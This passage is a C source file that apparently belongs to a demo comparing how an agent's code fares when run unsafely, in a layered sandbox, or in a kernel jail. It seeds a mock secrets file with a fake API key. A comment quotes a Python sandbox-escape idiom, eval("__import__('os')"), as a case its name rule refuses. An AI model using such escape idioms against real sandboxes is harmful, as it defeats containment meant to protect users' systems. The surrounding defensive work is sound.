/*
 * session.c -- the flow of one input through each path's layers.
 *
 * The input is parsed once; each enabled path then takes the same tree:
 *
 *   unsafe:   run in the path's world (world.h): CPython in a disposable
 *             replica world, or the mock object model where worlds
 *             cannot be built; dangerous effects happen to the replica
 *             (or the mock filesystem): LANDED, in a throwaway copy.
 *   sandbox:  code:     allowlist -> budget -> evaluate (reduced names, caps)
 *             commands: command allowlist -> allowlist (argument code) ->
 *                       budget -> surface -> network -> idempotency -> effect
 *             Under a policy that admits more than the essay's subset
 *             (policy_runs_in_world) what the allowlist and the name rule
 *             (check_names) admit runs in CPython in the path's offline
 *             world, behind the same layers: a weak filter's bypass has
 *             its real effect on the sandbox's files; the essay's subset
 *             stays on the evaluator, and so does the model engine.
 *   jail:     [--jail-filter: the sandbox's allowlists] -> CPython in a
 *             world of the jail kind (world.h), whose kernel refusals
 *             are "contained", and whose harm to its own copy (a file
 *             deleted, the secret read) is "inside"; or, with the model
 *             engine, the model in its own kernel jail per input
 *             (jailpath.h).  Never anything unjailed: a jail that
 *             cannot be built refuses.
 *
 * The sandbox's layers are one table, walked here: layers.c (each layer
 * in its own file: budget.c, surface.c, network.c, idempotency.c; the
 * allowlists are allowlist.c and policy.c).  The first layer that says no
 * decides the record; later layers are not consulted.  Every record ends
 * with the path's filesystem listing and budget after the step, and the
 * trace line built from label, shown input and outcome (trace.c).
 *
 * Each path evaluates in an arena of its own on a meter (arena.h): the
 * input may hold the session's memory_input, or what is left of
 * memory_session beside the names and files kept; past it the record is
 * BLOCKED at the limits layer, on the unsafe path too.
 */
#include "config.h"

#include <malloc.h>
#include <math.h>
#include <stdlib.h>
#include <string.h>

#include "arena.h"
#include "ast.h"
#include "builtins.h"
#include "allowlist.h"
#include "cmd.h"
#include "eval.h"
#include "jailpath.h"
#include "layers.h"
#include "ledger.h"
#include "mock.h"
#include "mockfs.h"
#include "ns.h"
#include "parse.h"
#include "policy.h"
#include "sbuf.h"
#include "session.h"
#include "sha256.h"
#include "state.h"
#include "trace.h"
#include "strlist.h"
#include "textesc.h"
#include "world.h"
#include "xalloc.h"

struct pathstate {
	struct mfs	*fs;
	struct ns	*ns;
	struct ledger	*ledger;
	unsigned	 used;		/* budget used */
	struct world	*world;		/* where code runs, or NULL: the
					   path's own layers run it */
	bool		 resumed;	/* loaded from --state, and its world
					   has not run yet */
	char		*restore;	/* while resumed: source binding its
					   old world's plain names, or NULL */
	struct live {			/* its world's live output's way to
					   session_set_output's fn */
		struct session	*s;
		enum path_id	 p;
	} live;
};

struct session {
	struct pathstate	 paths[PATH__COUNT];
	unsigned		 enabled;
	const struct policy	*policy;
	struct eval_calls	*calls;		/* policy's builtins, made on
					   first use, dropped with it */
	unsigned		 budget;	/* the sandbox's limit */
	bool			 budget_explicit; /* set by the user, kept
					    across policy changes */
	bool			 bare;
	bool			 jail_filter;
	int			 jail_fail_at;
	enum boundary		 jail;		/* the jail path's boundary */
	bool			 jail_explicit;	/* by --jail or :jail, kept
					   across policy changes */
	unsigned		 steps;
	/* Arenas of inputs whose lambdas or objects the names still hold
	 * (value_copy shares those; see ns.h). Freed on reset. */
	struct arena		**pinned;
	size_t			 npinned, cappinned;
	struct state		*state;		/* --state, or NULL */
	enum world_engine	 engine;	/* the unsafe path's world */
	bool			 fresh_world;
	unsigned		 world_wall_ms;
	int			 world_fail_at;
	struct sbuf		 setup;		/* the seeded names, as Python
						   source, for new worlds */
	char			*engine_note;	/* why the model runs instead */
	session_progress_fn	*progress;	/* told as each path runs */
	void			*progress_ctx;
	session_output_fn	*output;	/* told what a world writes */
	void			*output_ctx;
	unsigned		 nsnaps;	/* snapshots alive: pinned
						   arenas are kept across
						   resets, and worlds report
						   their literals */
	bool			 literals;	/* worlds report them always
						   (session_report_literals) */
	bool			 panes;		/* records carry trees and
						   digests (session.h) */
	size_t			 mem_input;	/* memory caps (session.h) */
	size_t			 mem_session;
};

/* The scenario's environment in a world: the essay's agent holds a live
 * key (the mock object model's os.environ says the same). */
static const char *const essay_env[] = { "API_KEY=sk-live-9f3a2b", NULL };
static const char *const bare_env[] = { NULL };

/* Caps on the unsafe path: there is no boundary, but the demo machine
 * must survive it; what would exceed them is reported, not performed. */
static const struct limits unsafe_limits = {
	.max_steps = 10000000,
	.max_int_bits = UINT64_C(1) << 24,
	.max_seq_len = 10000000,
	.max_str_bytes = 64u << 20,
	.max_depth = 500,
};

static void
seed_essay(struct session *s)
{
	static const char report[] = "Q2 refunds summary";
	static const char secrets[] = "API_KEY=sk-live-9f3a2b";
	struct arena *a = arena_new();
	value orders = value_list(a, 3);
	size_t p;

	value_list_append(a, orders, value_float(250.0));
	value_list_append(a, orders, value_float(180.0));
	value_list_append(a, orders, value_float(90.0));
	for (p = 0; p < PATH__COUNT; p++) {
		mfs_put(s->paths[p].fs, "report.txt", report,
		    sizeof report - 1);
		mfs_put(s->paths[p].fs, "secrets.txt", secrets,
		    sizeof secrets - 1);
		ns_set(s->paths[p].ns, "orders", orders);
	}
	sbuf_adds(&s->setup, "orders = [250.0, 180.0, 90.0]\n");
	arena_free(a);
}

/* Each kind's world kind (world.h), from its row's third column. */
static const enum world_kind boundary_worlds[BOUNDARY__COUNT] = {
#define X(e, name, world) [BOUNDARY_##e] = WORLD_KIND_##world,
	BOUNDARIES(X)
#undef X
};

/*
 * The world a path's code runs in, or NULL, as its boundary's row says
 * (paths.h): a kind whose model runs in a world gets one of the engine
 * asked for (the unsafe path's replica, CPython or the model); the
 * others get a CPython world of their kind, or NULL under the model
 * engine (or without libpython): the policy's path then runs its own
 * evaluator, the namespaces' jail the model in its own kernel jail
 * (jailpath.h), never in an unjailed world, and a kind that runs CPython
 * only (gVisor) refuses.  The policy's world runs only what a policy
 * wider than the essay's subset admits (policy_runs_in_world), with the
 * model engine on the evaluator as before.  (A world is only built when
 * it first runs something: under the essay's policy the sandbox's never
 * is.)
 */
static struct world *
path_world(const struct session *s, enum path_id p)
{
	const struct boundary_row *b = session_boundary(s, p);
	struct world *w;

	if (b->model == MODEL_IN_WORLD)
		return world_new_kind(s->engine, boundary_worlds[b->id],
		    s->world_wall_ms, s->world_fail_at);
	if (b->model != MODEL_NEVER && s->engine != WORLD_ENGINE_CPYTHON)
		return NULL;
	w = world_new_kind(WORLD_ENGINE_CPYTHON, boundary_worlds[b->id],
	    s->world_wall_ms, s->world_fail_at);
	if (w->ops->engine != WORLD_ENGINE_CPYTHON) {
		world_free(w);	/* built without libpython */
		return NULL;
	}
	return w;
}

/* The boundary in force on the path whose state ps is. */
static const struct boundary_row *
boundary_of(const struct session *s, const struct pathstate *ps)
{
	return session_boundary(s, (enum path_id)(ps - s->paths));
}

static void
init_paths(struct session *s)
{
	size_t p;
	for (p = 0; p < PATH__COUNT; p++) {
		s->paths[p].fs = mfs_new();
		s->paths[p].ns = ns_new();
		s->paths[p].ledger = ledger_new();
		s->paths[p].used = 0;
		s->paths[p].resumed = false;
		s->paths[p].restore = NULL;
		s->paths[p].world = path_world(s, (enum path_id)p);
	}
	sbuf_truncate(&s->setup, 0);
	if (!s->bare)
		seed_essay(s);
}

static void
free_paths(struct session *s)
{
	size_t p;
	/* (a snapshot's names may point into them: kept while one lives) */
	for (p = 0; s->nsnaps == 0 && p < s->npinned; p++)
		arena_free(s->pinned[p]);
	if (s->nsnaps == 0)
		s->npinned = 0;
	for (p = 0; p < PATH__COUNT; p++) {
		mfs_free(s->paths[p].fs);
		ns_free(s->paths[p].ns);
		ledger_free(s->paths[p].ledger);
		world_free(s->paths[p].world);
		s->paths[p].world = NULL;
		free(s->paths[p].restore);
		s->paths[p].restore = NULL;
	}
}

struct session *
session_new(const struct session_opts *opts)
{
	struct session *s = xcalloc(1, sizeof *s);
	s->enabled = opts->paths ? opts->paths : PATHS_DEFAULT;
	s->policy = opts->policy ? opts->policy : policy_preset("essay");
	s->budget = opts->budget_set ? opts->budget : s->policy->budget;
	s->budget_explicit = opts->budget_set;
	s->bare = opts->bare;
	s->jail_filter = opts->jail_filter;
	s->jail_fail_at = opts->jail_fail_at;
	s->jail = opts->jail_set ? (enum boundary)opts->jail :
	    boundary_jail_default();
	s->jail_explicit = opts->jail_set;
	if (!opts->jail_set && s->policy->jail != NULL)
		(void)boundary_parse(s->policy->jail, &s->jail);
	s->engine = (enum world_engine)opts->engine;
	s->fresh_world = opts->fresh_world;
	s->world_wall_ms = opts->world_wall_ms;
	s->world_fail_at = opts->world_fail_at;
	s->mem_input = opts->memory_input ? opts->memory_input :
	    MEMORY_INPUT_DEFAULT;
	s->mem_session = opts->memory_session ? opts->memory_session :
	    MEMORY_SESSION_DEFAULT;
	/* the CPython worlds' budget follows it (--serve and --mcp too:
	 * they share these options) */
	world_set_memory(s->mem_input);
	init_paths(s);
	return s;
}

void
session_free(struct session *s)
{
	if (s == NULL)
		return;
	s->nsnaps = 0;	/* (its snapshots were freed before it) */
	free_paths(s);
	eval_calls_free(s->calls);
	free(s->pinned);
	state_close(s->state);
	sbuf_free(&s->setup);
	free(s->engine_note);
	free(s);
}

void
session_reset(struct session *s, bool seed)
{
	bool bare = s->bare;
	free_paths(s);
	s->bare = !seed;
	init_paths(s);
	s->bare = bare;
	s->steps = 0;
}

/* A set-up step after a world was built: the next input gets a new one,
 * built with every seed. */
static void
renew_world(struct session *s, struct pathstate *ps)
{
	struct world *w = ps->world;
	if (w == NULL || !w->built)
		return;
	ps->world = world_new_kind(w->ops->engine, w->kind, s->world_wall_ms,
	    s->world_fail_at);
	world_free(w);
}

static void
renew_worlds(struct session *s)
{
	size_t p;
	for (p = 0; p < PATH__COUNT; p++)
		renew_world(s, &s->paths[p]);
}

void
session_seed_file(struct session *s, const char *name, const char *data,
    size_t len)
{
	size_t p;
	for (p = 0; p < PATH__COUNT; p++)
		mfs_put(s->paths[p].fs, name, data, len);
	renew_worlds(s);
}

/* Do the names of path mask's paths, changed since gens, hold values
 * that point into the arenas of the input that made them? */
static bool
holds_shared(struct session *s, unsigned mask, const unsigned long *gens)
{
	size_t p, i;
	for (p = 0; p < PATH__COUNT; p++) {
		struct ns *ns = s->paths[p].ns;
		if (!(mask & PATH_BIT(p)) || ns_generation(ns) == gens[p])
			continue;
		for (i = 0; i < ns_count(ns); i++) {
			value v;
			ns_name(ns, i, &v);
			if (value_holds_shared(v))
				return true;
		}
	}
	return false;
}

/* Keep an input's arena for the session (off any input's meter). */
static void
pin(struct session *s, struct arena *a)
{
	if (s->npinned == s->cappinned) {
		s->cappinned = s->cappinned ? s->cappinned * 2 : 8;
		s->pinned = xreallocarray(s->pinned, s->cappinned,
		    sizeof *s->pinned);
	}
	arena_set_meter(a, NULL);
	s->pinned[s->npinned++] = a;
}

/* Keep the input's arena when the names now hold shared values;
 * else free it. */
static void
keep_or_free(struct session *s, struct arena *ea, const unsigned long *gens)
{
	if (holds_shared(s, ~0u, gens))
		pin(s, ea);
	else
		arena_free(ea);
}

size_t
session_kept(const struct session *s)
{
	size_t p, n = 0;
	for (p = 0; p < PATH__COUNT; p++)
		n += ns_held(s->paths[p].ns) + mfs_bytes(s->paths[p].fs);
	for (p = 0; p < s->npinned; p++)
		n += arena_held(s->pinned[p]);
	return n;
}

static void
generations(const struct session *s, unsigned long *gens)
{
	size_t p;
	for (p = 0; p < PATH__COUNT; p++)
		gens[p] = ns_generation(s->paths[p].ns);
}

/* The path whose names a set-up step evaluates in and reads back: the
 * first without a boundary (the teacher's set-up is not the agent's
 * code); every path gets the same names. */
static struct pathstate *
seed_path(struct session *s)
{
	return &s->paths[path_first(~0u, GUARD_NONE)];
}

bool
session_seed_name(struct session *s, const char *name, const char *expr,
    char **err)
{
	struct arena *a = arena_new();
	struct parse_result pr;
	struct eval ev;
	struct mfs *scratch = mfs_new();
	value v;
	bool has_value, ok = false;
	size_t p;
	unsigned long gens[PATH__COUNT];

	*err = NULL;
	generations(s, gens);
	parse_input(a, expr, strlen(expr), &pr);
	if (pr.status != PARSE_OK || pr.root->kind != NODE_EXPRESSION) {
		struct sbuf b = SBUF_INIT;
		if (pr.status == PARSE_OK)
			sbuf_adds(&b, "not an expression");
		else
			parse_format_error(expr, strlen(expr), &pr.error, &b);
		*err = sbuf_take(&b);
		goto out;
	}
	eval_init(&ev, a, (enum path_id)(seed_path(s) - s->paths));
	ev.rt.limits = unsafe_limits;
	ev.full_model = true;
	ev.ws.fs = scratch;
	ev.ns = seed_path(s)->ns;
	if (!eval_root(&ev, pr.root, &v, &has_value)) {
		*err = xasprintf("%s: %s", pyexc_name(ev.rt.exc.cls), ev.rt.exc.msg);
		goto out;
	}
	for (p = 0; p < PATH__COUNT; p++)
		ns_set(s->paths[p].ns, name, v);
	sbuf_addf(&s->setup, "%s = %s\n", name, expr);
	renew_worlds(s);
	if (ev.mutated)
		ns_recopy(seed_path(s)->ns);
	else
		ns_commit(seed_path(s)->ns);
	ok = true;
out:
	mfs_free(scratch);
	keep_or_free(s, a, gens);
	return ok;
}

/* ---- accessors ---- */

unsigned session_paths(const struct session *s) { return s->enabled; }
const struct policy *session_policy(const struct session *s) { return s->policy; }
const struct mfs *session_fs(const struct session *s, enum path_id p) { return s->paths[p].fs; }
struct ns *session_ns(const struct session *s, enum path_id p) { return s->paths[p].ns; }
unsigned session_budget_used(const struct session *s, enum path_id p) { return s->paths[p].used; }
unsigned session_steps(const struct session *s) { return s->steps; }
const char *session_engine_note(const struct session *s) { return s->engine_note; }

void
session_set_output(struct session *s, session_output_fn *fn, void *ctx)
{
	s->output = fn;
	s->output_ctx = ctx;
}

/* A world's live output (world_input.live), to the session's fn. */
static void
live_output(void *ctx, const char *stream, const char *text, size_t len)
{
	struct live *l = ctx;

	if (l->s->output != NULL)
		l->s->output(l->s->output_ctx, l->p, stream, text, len);
}

void
session_set_progress(struct session *s, session_progress_fn *fn, void *ctx)
{
	s->progress = fn;
	s->progress_ctx = ctx;
}

/* The world path p's code runs in now, or NULL: a policy's path's only
 * while its policy admits more than the essay's subset. */
static struct world *
live_world(const struct session *s, enum path_id p)
{
	struct world *w = s->paths[p].world;

	if (session_boundary(s, p)->guard == GUARD_POLICY &&
	    !policy_runs_in_world(s->policy))
		return NULL;
	return w;
}

const char *const *
session_world_names(const struct session *s, enum path_id p, size_t *n)
{
	const struct world *w = live_world(s, p);
	*n = 0;
	return w != NULL && w->built ? world_names(w, n) : NULL;
}

const char *const *
session_world_literals(const struct session *s, enum path_id p, size_t *n)
{
	const struct world *w = s->paths[p].world;
	*n = 0;
	return w != NULL && w->built ? world_literals(w, n) : NULL;
}

const char *
session_engine(const struct session *s, enum path_id p)
{
	const struct world *w = live_world(s, p);
	if (w == NULL && session_boundary(s, p)->model == MODEL_IN_PROCESS)
		return world_engine_name(WORLD_ENGINE_MODEL);
	return w != NULL ? world_engine_name(w->ops->engine) : NULL;
}
struct mfs *session_fs_mut(struct session *s, enum path_id p) { return s->paths[p].fs; }
struct ledger *session_ledger(struct session *s, enum path_id p) { return s->paths[p].ledger; }
void session_set_budget_used(struct session *s, enum path_id p, unsigned used) { s->paths[p].used = used; }
void session_set_steps(struct session *s, unsigned steps) { s->steps = steps; }

/* Plain data whose repr is Python source that rebuilds it. */
static bool
is_literal(value v, int depth)
{
	size_t i;

	if (depth > 100)
		return false;
	switch (v.type) {
	case VT_NONE: case VT_BOOL: case VT_INT: case VT_BIGINT: case VT_STR:
	case VT_BYTES:
		return true;
	case VT_FLOAT:
		return isfinite(v.as.f);	/* (repr(inf) is not source) */
	case VT_LIST:
		for (i = 0; i < v.as.list->len; i++)
			if (!is_literal(v.as.list->items[i], depth + 1))
				return false;
		return true;
	case VT_TUPLE:
		for (i = 0; i < v.as.tuple->len; i++)
			if (!is_literal(v.as.tuple->items[i], depth + 1))
				return false;
		return true;
	case VT_DICT: case VT_SET:
		for (i = 0; i < v.as.dict->used; i++) {
			const struct ventry *en = &v.as.dict->entries[i];
			if (en->live && (!is_literal(en->key, depth + 1) ||
			    (v.type == VT_DICT &&
			    !is_literal(en->val, depth + 1))))
				return false;
		}
		return true;
	default:
		return false;
	}
}

static bool
is_identifier(const char *s)
{
	size_t i;

	if (!((*s >= 'a' && *s <= 'z') || (*s >= 'A' && *s <= 'Z') ||
	    *s == '_'))
		return false;
	for (i = 1; s[i] != '\0'; i++)
		if (!((s[i] >= 'a' && s[i] <= 'z') ||
		    (s[i] >= 'A' && s[i] <= 'Z') ||
		    (s[i] >= '0' && s[i] <= '9') || s[i] == '_'))
			return false;
	return true;
}

/* A tree of literals only: constants (not ...), signed numbers, and
 * lists, tuples, sets and dicts of them -- what ast.literal_eval takes,
 * less complex numbers.  Nothing in it can run anything. */
static bool
is_literal_node(const struct node *n, int depth)
{
	size_t i;

	if (n == NULL || depth > 100)
		return false;
	switch (n->kind) {
	case NODE_CONSTANT:
		return n->u.constant.value.type != VT_ELLIPSIS;
	case NODE_UNARYOP:
		return (n->u.unaryop.op == UNARYOP_USUB ||
		    n->u.unaryop.op == UNARYOP_UADD) &&
		    n->u.unaryop.operand->kind == NODE_CONSTANT &&
		    (n->u.unaryop.operand->u.constant.value.type == VT_INT ||
		    n->u.unaryop.operand->u.constant.value.type == VT_BIGINT ||
		    n->u.unaryop.operand->u.constant.value.type == VT_FLOAT);
	case NODE_LIST: case NODE_TUPLE: case NODE_SET:
		for (i = 0; i < n->u.seq.elts.len; i++)
			if (!is_literal_node(n->u.seq.elts.items[i], depth + 1))
				return false;
		return true;
	case NODE_DICT:
		for (i = 0; i < n->u.dict.keys.len; i++)
			if (!is_literal_node(n->u.dict.keys.items[i],
			    depth + 1) ||
			    !is_literal_node(n->u.dict.values.items[i],
			    depth + 1))
				return false;	/* (a NULL key: **) */
		return true;
	default:
		return false;
	}
}

static bool is_identifier(const char *s);

/*
 * The source that binds path p's plain names again from lits (n pairs of
 * name and repr): each "name = repr" only when the name is an identifier
 * the path's own names do not hold and the repr parses as a literal (the
 * pairs came from a world, or from the state's file), so nothing but
 * literals is run.  NULL when there is none.
 */
static char *
literal_source(const struct session *s, enum path_id p,
    const char *const *lits, size_t n)
{
	struct sbuf src = SBUF_INIT;
	size_t i;

	for (i = 0; lits != NULL && i < n; i++) {
		const char *name = lits[2 * i], *repr = lits[2 * i + 1];
		struct arena *a = arena_new();
		struct parse_result pr;
		value v;

		parse_input(a, repr, strlen(repr), &pr);
		if (is_identifier(name) && !ns_get(s->paths[p].ns, name, &v) &&
		    pr.status == PARSE_OK && pr.root->kind == NODE_EXPRESSION &&
		    is_literal_node(pr.root->u.expression.body, 0))
			sbuf_addf(&src, "%s = %s\n", name, repr);
		arena_free(a);
	}
	if (src.len == 0) {
		sbuf_free(&src);
		return NULL;
	}
	return sbuf_take(&src);
}

/* The source that binds path p's old world's plain names again, from
 * what the state kept of them. */
static char *
restore_source(const struct session *s, enum path_id p)
{
	const char *const *lits;
	size_t n;

	if (s->state == NULL ||
	    (lits = state_world_values(s->state, p, &n)) == NULL)
		return NULL;
	return literal_source(s, p, lits, n);
}

/* Did the restore source bind name? */
static bool
restored(const struct pathstate *ps, const char *name)
{
	const char *line = ps->restore;
	size_t n = strlen(name);

	while (line != NULL && *line != '\0') {
		if (strncmp(line, name, n) == 0 &&
		    strncmp(line + n, " = ", 3) == 0)
			return true;
		line = strchr(line, '\n');
		if (line != NULL)
			line++;
	}
	return false;
}

/*
 * After --state loaded the session: a new world's set-up binds the names
 * the state restored (the essay's orders, the teacher's names, the
 * model's plain data), each as its repr, which is Python source for
 * plain data: nothing the state holds is run, only literals are.
 */
static void
reseed_setup(struct session *s)
{
	struct ns *ns = seed_path(s)->ns;
	struct arena *a = arena_new();
	struct rt rt;
	size_t i;

	memset(&rt, 0, sizeof rt);
	rt.arena = a;
	rt.limits = unsafe_limits;
	sbuf_truncate(&s->setup, 0);
	for (i = 0; i < ns_count(ns); i++) {
		struct sbuf r = SBUF_INIT;
		value v;
		const char *name = ns_name(ns, i, &v);

		if (is_identifier(name) && is_literal(v, 0) &&
		    value_repr(&rt, v, &r))
			sbuf_addf(&s->setup, "%s = %s\n", name, sbuf_cstr(&r));
		sbuf_free(&r);
	}
	arena_free(a);
}

/* ---- the session as its state sees it (state.h) ---- */

static void view_reset(struct state_session *ss);

/* What the state saves from and loads into: this session's stores. */
static void
view_fill(struct session *s, struct state_session *ss)
{
	size_t p;

	ss->steps = s->steps;
	ss->reset = view_reset;
	ss->ctx = s;
	for (p = 0; p < PATH__COUNT; p++) {
		struct state_path *sp = &ss->paths[p];
		sp->fs = s->paths[p].fs;
		sp->ns = s->paths[p].ns;
		sp->ledger = s->paths[p].ledger;
		sp->used = s->paths[p].used;
		sp->world_names = session_world_names(s, (enum path_id)p,
		    &sp->nworld_names);
		sp->world_literals = session_world_literals(s,
		    (enum path_id)p, &sp->nworld_literals);
	}
}

static void
view_reset(struct state_session *ss)
{
	struct session *s = ss->ctx;

	session_reset(s, false);
	view_fill(s, ss);
}

/* The counters a load or a save's rollback set. */
static void
view_take(struct session *s, const struct state_session *ss)
{
	size_t p;

	s->steps = ss->steps;
	for (p = 0; p < PATH__COUNT; p++)
		s->paths[p].used = ss->paths[p].used;
}

bool
session_use_state(struct session *s, const char *dir, char **err)
{
	struct state_session ss;
	struct state *st;
	size_t p;

	view_fill(s, &ss);
	st = state_open(&ss, dir, err);
	view_take(s, &ss);
	if (st == NULL)
		return false;
	state_close(s->state);
	s->state = st;
	if (state_resumed(st))
		reseed_setup(s);
	for (p = 0; p < PATH__COUNT; p++) {
		s->paths[p].resumed = state_resumed(st);
		free(s->paths[p].restore);
		s->paths[p].restore = restore_source(s, (enum path_id)p);
	}
	return true;
}

void
session_set_paths(struct session *s, unsigned paths)
{
	s->enabled = paths ? paths : PATHS_DEFAULT;
}

enum boundary
session_jail(const struct session *s)
{
	return s->jail;
}

const struct boundary_row *
session_boundary(const struct session *s, enum path_id p)
{
	return boundary_row(path_row(p)->kind_by_jail ? s->jail :
	    path_row(p)->kind);
}

static void
set_jail(struct session *s, enum boundary b)
{
	size_t p;

	if (b == s->jail || (unsigned)b >= BOUNDARY__COUNT ||
	    !boundary_row(b)->jail_option)
		return;
	s->jail = b;
	for (p = 0; p < PATH__COUNT; p++) {
		struct pathstate *ps = &s->paths[p];
		if (!path_row((enum path_id)p)->kind_by_jail)
			continue;
		world_free(ps->world);	/* (its names go with it; files
					   stay) */
		ps->world = path_world(s, (enum path_id)p);
	}
}

void
session_set_jail(struct session *s, enum boundary b)
{
	s->jail_explicit = true;
	set_jail(s, b);
}

/* The session's policy is p from now on; the calls made for the one
 * before go with it (run_path() makes p's on first use). */
static void
take_policy(struct session *s, const struct policy *p)
{
	s->policy = p;
	eval_calls_free(s->calls);
	s->calls = NULL;
}

void
session_set_policy(struct session *s, const struct policy *p)
{
	enum boundary b;

	if (!s->jail_explicit && p->jail != NULL &&
	    boundary_parse(p->jail, &b))
		set_jail(s, b);
	take_policy(s, p);
	if (!s->budget_explicit)
		s->budget = p->budget;
}

void
session_set_budget(struct session *s, unsigned limit)
{
	s->budget = limit;
	s->budget_explicit = true;
}

unsigned
session_budget_limit(const struct session *s, enum path_id p)
{
	return session_boundary(s, p)->guard == GUARD_POLICY ? s->budget : 0;
}

const char *
session_path_adjective(enum path_id p)
{
	return path_row(p)->adjective;
}

/* ---- the names a policy may list (policy.h) ---- */

static bool
names_builtin(const char *name)
{
	value t;

	return builtin_find(name) != NULL ||
	    strlist_has(mock_builtin_names(), name) ||
	    mock_type_named(NULL, "builtins", name, &t);
}

static bool
names_command(const char *name)
{
	return cmd_find(name) != NULL;
}

const struct policy_names session_policy_names = {
	.is_builtin = names_builtin,
	.is_command = names_command,
};

/* ---- one path ---- */

struct step {
	struct session		*s;
	enum path_id		 path;
	const struct boundary_row *kind; /* its boundary now (paths.h) */
	struct pathstate	*ps;
	struct record		*r;
	struct arena		*a;	/* the records' arena (the caller's) */
	struct eval		 ev;	/* allocates in the input's own arena */
	struct world		*world;	/* the sandbox path's CPython world,
					   or NULL: its own evaluator */
	bool			 restarted; /* its world had died */
	bool			 resumed;   /* its world is new, after --state
					   restored all but its names */
	const char		*raised_after; /* the exception that ended
					   code which had done harm first */
	const char		*essay;	/* the deciding rule's phrase in the
					   essay's words (allowlist.h), or NULL */
	const char		*src;	/* what a world compiles: the input,
					   or a shell line's Python form */
};

static void
decide(struct step *st, enum verdict v, enum layer l, const char *rule,
    const char *reason)
{
	st->r->verdict = v;
	st->r->layer = l;
	st->r->rule = rule;
	st->r->reason = reason;
	st->essay = NULL;
}

static void
mark_node(struct record *r, const struct node *n)
{
	if (n == NULL)
		return;
	r->has_node = true;
	r->node_type = ast_kind_name(n->kind);
	r->node_start = n->start;
	r->node_end = n->end;
}

/* "1.2 GiB" */
static const char *
human_bytes(struct arena *a, double bytes)
{
	static const char *const units[] = { "bytes", "KiB", "MiB", "GiB",
	    "TiB", "PiB", "EiB" };
	size_t u = 0;
	while (bytes >= 1024 && u + 1 < sizeof units / sizeof units[0]) {
		bytes /= 1024;
		u++;
	}
	return u == 0 ? arena_printf(a, "%.0f bytes", bytes) :
	    arena_printf(a, "%.1f %s", bytes, units[u]);
}

/*
 * What a refused bomb would have cost had it run, from the size the
 * evaluator predicted before refusing it.
 */
static const char *
bomb_estimate(struct step *st)
{
	const struct pyexc *e = &st->ev.rt.exc;
	double n = (double)e->limit_amount;

	switch (e->limit) {
	case LIMIT_INT_BITS:
		return arena_printf(st->a, "one int of %.0f bits: about %s of "
		    "memory, and far longer to compute and print than anyone "
		    "would wait", n, human_bytes(st->a, n / 8));
	case LIMIT_SEQ_LEN:
		return arena_printf(st->a, "a sequence of %.0f items: about "
		    "%s of memory", n, human_bytes(st->a, n * 8));
	case LIMIT_STR_BYTES:
		return arena_printf(st->a, "a string of %s: the machine's "
		    "memory, then the process", human_bytes(st->a, n));
	case LIMIT_STEPS:
		return arena_printf(st->a, "more than %.0f evaluation steps: "
		    "a CPU spinning until someone kills it", n);
	default:
		return st->ev.rt.exc.msg;
	}
}

static void decide_blocked(struct step *st, const struct check_result *cr);

/* An exception from the evaluator becomes the record's verdict. */
static void
decide_exception(struct step *st)
{
	struct eval *ev = &st->ev;
	struct record *r = st->r;

	mark_node(r, ev->exc_node);
	if (ev->rt.exc.kind == EXC_LIMIT) {
		/* (the memory cap is this program's, on every path: it keeps
		 * the machine that runs it alive, and refuses for real) */
		if (st->kind->guard == GUARD_NONE &&
		    ev->rt.exc.limit != LIMIT_MEMORY) {
			/* No boundary: the bomb "goes off", on paper. */
			effect_add(&ev->effects, "exhaust", "memory and CPU",
			    EFFECT_EXHAUSTION, bomb_estimate(st), false);
			decide(st, VERDICT_LANDED, LAYER_EVAL, NULL, NULL);
			return;
		}
		decide(st, VERDICT_BLOCKED, LAYER_LIMITS, "limits",
		    arena_strdup(st->a, ev->rt.exc.msg));
		return;
	}
	if (st->kind->guard == GUARD_POLICY && ev->withheld != NULL &&
	    ev->rt.exc.cls == PYEXC_NameError &&
	    strstr(ev->rt.exc.msg, ev->withheld) != NULL) {
		/* code the policy let run reached for a builtin it does not
		 * give (eval("__import__('os')")): its name rule said no */
		struct check_result cr;
		if (!check_name(st->s->policy, ev->withheld, ev->exc_node,
		    st->a, &cr)) {
			decide_blocked(st, &cr);
			return;
		}
	}
	decide(st, VERDICT_ERROR, LAYER_EVAL, NULL,
	    arena_printf(st->a, "%s: %s", pyexc_name(ev->rt.exc.cls), ev->rt.exc.msg));
}

/* The result's repr, in the records' arena; NULL with the exception
 * in st->ev.rt when it cannot be had. */
static const char *
repr_of(struct step *st, value v)
{
	struct sbuf b = SBUF_INIT;
	const char *s = NULL;
	/* the repr is held four times until the record is printed: here,
	 * as the result, in the trace line, in what prints it */
	if (value_repr(&st->ev.rt, v, &b) &&
	    rt_check_bytes(&st->ev.rt, 4 * (uint64_t)b.len))
		s = arena_strdup(st->a, sbuf_cstr(&b));
	sbuf_free(&b);
	return s;
}

/* A layer's decision becomes the record's (layers.h). */
static void
apply(struct step *st, const struct layer_decision *d)
{
	mark_node(st->r, d->node);
	if (d->effect_op != NULL)
		effect_add(&st->ev.effects, d->effect_op, d->effect_target,
		    EFFECT_HARMLESS, NULL, true);
	decide(st, d->verdict, d->layer, d->rule, d->reason);
	st->essay = d->essay;
	if (d->outcome != NULL)
		st->r->outcome = d->outcome;
}

/* The paths without the sandbox's layers still need a command's call
 * written out (layers.c's command_shape_decide, the commands layer's
 * own check). */
static bool
command_shape(struct step *st, const struct cmd_entry *e,
    const struct node *call)
{
	struct layer_call c = { .a = st->a, .input = st->r->input, .e = e,
	    .call = call };
	struct layer_decision d = { .verdict = VERDICT_OK };

	if (command_shape_decide(&c, &d))
		return true;
	apply(st, &d);
	return false;
}

/* The policy's checker said no: the record names its rule and node. */
static void
decide_blocked(struct step *st, const struct check_result *cr)
{
	struct layer_decision d;

	layers_blocked(cr, &d);
	apply(st, &d);
}

/*
 * What the sandbox's layers (layers.c) look at for this input: code
 * (root), or a command e and its call.  names: the name rule too (the
 * sandbox path's; a jail's filter has none).
 */
static void
layer_call(struct step *st, const struct node *root,
    const struct cmd_entry *e, const struct node *call, bool names,
    struct layer_call *c)
{
	*c = (struct layer_call){ .policy = st->s->policy, .a = st->a,
	    .input = st->r->input, .root = e != NULL ? NULL : root, .e = e,
	    .call = call, .names = names, .used = &st->ps->used,
	    .limit = st->s->budget, .ledger = st->ps->ledger };
}

/*
 * The layers of one stage, through last (LAYER__COUNT: all), on the
 * sandbox path or a jail's filter: false when one decided the record.
 */
static bool
walk_layers(struct step *st, enum layer_stage stage, enum layer last,
    struct layer_call *c)
{
	struct layer_decision d;

	if (layers_walk(stage, last, c, &d))
		return true;
	apply(st, &d);
	return false;
}

/* The policy's checks before anything is evaluated, on a jail's path
 * under --jail-filter: the command allowlist and the code checker, as
